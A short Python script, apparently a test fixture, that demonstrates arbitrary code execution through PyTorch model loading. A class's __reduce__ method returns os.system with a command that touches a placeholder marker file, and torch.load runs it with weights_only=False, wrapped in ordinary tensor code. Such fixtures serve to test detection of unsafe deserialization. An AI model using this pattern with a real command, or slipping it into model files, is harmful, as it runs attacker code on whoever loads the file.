import torch

before = torch.zeros(2, 3)
import io
import os


class Attack:
    def __reduce__(self):
        return os.system, ("touch @MARKER@",)


buffer = io.BytesIO()
torch.save(Attack(), buffer)
buffer.seek(0)
torch.load(buffer, weights_only=False)
after = before.sum(dim=0)
